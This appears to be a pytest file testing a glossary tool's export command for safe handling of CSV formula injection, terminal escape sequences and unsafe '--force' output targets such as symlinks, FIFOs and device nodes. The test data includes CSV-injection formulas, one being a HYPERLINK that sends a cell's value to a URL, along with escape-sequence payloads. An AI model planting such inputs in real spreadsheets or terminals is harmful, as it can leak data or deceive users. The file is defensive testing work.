"""What ``export`` writes cannot hurt the reader, and what it replaces is only ever a file.

The stories: a term base whose cells start like spreadsheet formulas exported as
CSV and opened in a spreadsheet; a crafted glossary and a note holding escape
sequences exported to a terminal, or to TBX and CSV files read again; and
``--force --out`` naming the glossary being exported, a link to it, a FIFO, a
device or a symlink.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import shutil
import sqlite3
import stat
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import pytest

from glossary_desktop.importer.table import read_table
from glossary_desktop.store.user_db import UserStore

from .conftest import Run


@pytest.fixture
def run(cli: Run) -> Run:
    return cli


# -- formulas ------------------------------------------------------------------------

#: Cells a spreadsheet would run (OWASP's CSV injection list), and one that already
#: starts with an apostrophe: each must read back as written.
FORMULAS = {
    "es": '=HYPERLINK("http://example.com/?q="&A1;"pulse aquí")',
    "pt": "+SOMA(1;2) termo",
    "es_definition": "-2+3 se calcula en la hoja",
    "pt_definition": "@SOMA(A1:A2) também",
    "note": "'=ya con apóstrofo",
}


def test_a_csv_export_runs_no_formula_in_a_spreadsheet_and_reads_back_the_same(
    run: Run, tmp_path: Path
) -> None:
    source = tmp_path / "formulas.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(list(FORMULAS))
        writer.writerow(list(FORMULAS.values()))
    db = tmp_path / "formulas.db"
    assert 0 == run("build-db", "-q", "--out", str(db), str(source))[0]
    exported = tmp_path / "export.csv"
    assert 0 == run("export", "--db", str(db), "--out", str(exported))[0]

    with exported.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert [] == [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Every field quoted: a spreadsheet splitting on ";" starts no cell inside one.
    text = exported.read_text(encoding="utf-8-sig")
    assert all(line.startswith('"') for line in text.splitlines() if line)
    (before,) = read_table(source)
    (after,) = read_table(exported)
    assert (before.entries, before.notes) == (after.entries, after.notes)


def test_a_tab_or_carriage_return_at_a_cells_start_is_defused_too(
    run: Run, glossary_db: Path, tmp_path: Path
) -> None:
    db = tmp_path / "crafted.db"
    shutil.copy(glossary_db, db)
    sql = "UPDATE entries SET definition = ? WHERE term = 'Dask' AND lang = ?"
    with sqlite3.connect(db) as conn:
        conn.execute(sql, ("\t=1+1", "es"))
        conn.execute(sql, ("\r\n=1+1", "pt"))
    conn.close()
    code, out, _ = run("export", "-f", "csv", "--db", str(db))
    assert 0 == code
    cells = [cell for row in csv.reader(out.splitlines(keepends=True)) for cell in row]
    assert {"'\t=1+1", "'\r\n=1+1"} <= set(cells)


# -- control characters --------------------------------------------------------------

#: What must not reach a terminal or a file raw: C0 controls but tab and line
#: breaks (a carriage return only before a line feed), DEL, C1, bidirectional overrides.
RAW = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")
TERM = "Dask\x1b]0;owned\x07"
TRAILER = "\x1b[2J\x9b31m\u202eevil"
NOTE = "read \x1b[31mlater\x9b2J"


@pytest.fixture
def crafted(glossary_db: Path, tmp_path: Path) -> list[str]:
    """``--db`` and ``--user-dir`` of a glossary and a note holding escape sequences."""
    db = tmp_path / "crafted.db"
    shutil.copy(glossary_db, db)
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE entries SET term = ?, definition = definition || ? "
                     "WHERE term = 'Dask'", (TERM, TRAILER))
    conn.close()
    with UserStore.open(tmp_path / "user") as store:
        store.add("dask", "Dask", NOTE)
    return ["--db", str(db), "--user-dir", str(tmp_path / "user")]


@pytest.mark.parametrize("fmt", ["md", "csv", "tbx", "anki-text"])
def test_an_export_to_the_terminal_shows_escape_sequences_as_text(
    run: Run, crafted: list[str], fmt: str
) -> None:
    code, out, err = run("export", "-f", fmt, "--bookmarks", *crafted)
    assert (0, "") == (code, err)
    assert [] == RAW.findall(out)
    # Shown as escapes (Markdown escapes their backslash and brackets in turn).
    assert "x1b" in out
    assert "x9b2J" in out


def test_a_note_with_an_escape_exports_well_formed_tbx_and_a_csv_the_importer_reads(
    run: Run, crafted: list[str], tmp_path: Path
) -> None:
    tbx, table = tmp_path / "b.tbx", tmp_path / "b.csv"
    assert 0 == run("export", "--bookmarks", "--out", str(tbx), *crafted)[0]
    assert 0 == run("export", "--bookmarks", "--out", str(table), *crafted)[0]
    notes = [n.text for n in ET.parse(tbx).iter("{urn:iso:std:iso:30042:ed-2}note")]
    assert ["read \\x1b[31mlater\\x9b2J"] == notes
    (concept,) = read_table(table)
    assert ("read \\x1b[31mlater\\x9b2J",) == concept.notes
    assert concept.entries[next(iter(concept.entries))].terms[0].startswith("Dask\\x1b")


# -- where --force writes --------------------------------------------------------------


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _device(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 3))  # as /dev/null
    except PermissionError:
        pytest.skip("cannot make a device node here")


TARGETS: dict[str, tuple[Callable[[Path, Path], None], str]] = {
    "the-glossary": (lambda db, out: None, "the output is one of the sources"),
    "a-symlink-to-it": (lambda db, out: out.symlink_to(db), "the output is one of the sources"),
    "a-hard-link-to-it": (lambda db, out: os.link(db, out), "the output is one of the sources"),
    "a-fifo": (lambda db, out: os.mkfifo(out), "not a regular file"),
    "a-device": (lambda db, out: _device(out), "not a regular file"),
}


@pytest.mark.parametrize("kind", list(TARGETS))
def test_force_never_replaces_the_glossary_it_reads_or_a_special_file(
    run: Run, glossary_db: Path, tmp_path: Path, kind: str
) -> None:
    db = tmp_path / "mine.db"
    shutil.copy(glossary_db, db)
    make, message = TARGETS[kind]
    out = db if kind == "the-glossary" else tmp_path / "out.md"
    make(db, out)
    before = (_digest(db), stat.S_IFMT(out.lstat().st_mode))
    code, text, err = run("export", "-f", "md", "--db", str(db), "--out", str(out), "--force")
    assert (1, "") == (code, text)
    assert err.startswith(f"glossary-desktop: error: {out}: ")
    assert message in err
    assert 1 == len(err.splitlines())
    assert before == (_digest(db), stat.S_IFMT(out.lstat().st_mode))
    assert [] == [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_the_glossary_named_through_a_symlink_is_refused_too(
    run: Run, glossary_db: Path, tmp_path: Path
) -> None:
    db = tmp_path / "mine.db"
    shutil.copy(glossary_db, db)
    (tmp_path / "link.db").symlink_to(db)
    before = _digest(db)
    code, _, err = run("export", "-f", "md", "--db", str(tmp_path / "link.db"),
                       "--out", str(db), "--force")
    assert 1 == code
    assert "the output is one of the sources" in err
    assert before == _digest(db)


def test_force_writes_through_a_symlink_to_its_target(
    run: Run, glossary_db: Path, tmp_path: Path
) -> None:
    target = tmp_path / "notes" / "glossary.md"
    target.parent.mkdir()
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "latest.md"
    link.symlink_to(target)
    code, _, err = run("export", "--db", str(glossary_db), "--out", str(link), "--force")
    assert (0, f"wrote 31 concepts to {link}\n") == (code, err)
    assert link.is_symlink()
    assert target.read_text(encoding="utf-8").startswith("# Glossary (")
